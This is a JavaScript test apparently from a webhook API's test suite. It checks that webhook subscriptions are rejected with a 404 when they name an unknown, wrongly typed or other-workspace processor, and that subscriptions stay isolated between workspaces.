test(`F25c: a subscription must name a processor of the caller's workspace, of the kind given (${backend})`, { timeout: 60000 }, async (t) => {
  const srv = await startServer({ t });
  const ws2 = await createWorkspace(srv.dataDir, ['--name', 'other']);
  const key2 = await createKey(srv.dataDir, ['--workspace', ws2]);
  const other = (method, p, opts = {}) => request(srv.url, method, p, { key: key2, ...opts });
  const ex = await makeExtractor(srv);
  const mine = (await srv.api('POST', '/webhook_endpoints', { body: { url: 'https://93.184.216.34/a', name: 'a', enabledEvents: [], apiVersion: '2026-02-09' } })).body;
  const theirs = (await other('POST', '/webhook_endpoints', { body: { url: 'https://93.184.216.34/b', name: 'b', enabledEvents: [], apiVersion: '2026-02-09' } })).body;
  const sub = (endpoint, resourceType, resourceId, events, caller = srv.api) =>
    caller('POST', '/webhook_subscriptions', { body: { webhookEndpointId: endpoint, resourceType, resourceId, enabledEvents: events } });
  const ok = await sub(mine.id, 'extractor', ex.id, ['extract_run.processed']);
  assert.equal(ok.status, 200, ok.text);
  for (const [label, r] of [
    ['unknown id', await sub(mine.id, 'extractor', 'ex_doesnotexist', ['extract_run.processed'])],
    ['wrong kind', await sub(mine.id, 'classifier', ex.id, ['classify_run.processed'])],
    ['no workflows here', await sub(mine.id, 'workflow', 'workflow_1', ['workflow_run.completed'])],
    ['another workspace', await sub(theirs.id, 'extractor', ex.id, ['extract_run.processed'], other)],
  ]) {
    expectError(assert, r, 404, 'NOT_FOUND');
    assert.match(r.body.message, /resourceId/, label);
  }
  assert.deepEqual((await other('GET', '/webhook_subscriptions')).body.data, []);
  assert.equal((await srv.api('GET', '/webhook_subscriptions')).body.data.length, 1);
});
